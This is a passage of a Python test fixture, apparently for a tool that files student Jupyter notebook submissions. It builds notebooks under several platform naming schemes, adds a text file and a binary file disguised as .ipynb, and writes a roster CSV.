            elif number % 3 == 0:  # a learning platform's file names: name_userid_submissionid_file
                path = folder / f"{student}_{4000 + number}_{9000 + number}_{stem}.ipynb"
            else:
                path = folder / "m-middle" / student / f"{stem}.ipynb"
            path.parent.mkdir(parents=True, exist_ok=True)
            nbformat.write(notebooks[stem], path)
            paths[stem], placed[stem] = path, f"2026-{student}"
    paths["not_a_notebook"] = folder / "notes.ipynb"  # files at the top with no platform's name: not placed
    paths["not_a_notebook"].write_text("my notes, not a notebook")
    paths["binary"] = folder / "photo.ipynb"
    paths["binary"].write_bytes(bytes(range(256)))
    placed.update(not_a_notebook=None, binary=None)
    roster = folder.parent / "roster.csv"
    roster.write_text("id,login\n" + "".join(f"2026-{s},{s}\n" for s in [*students, "s99"]))
    return {"paths": paths, "students": placed, "roster": roster}
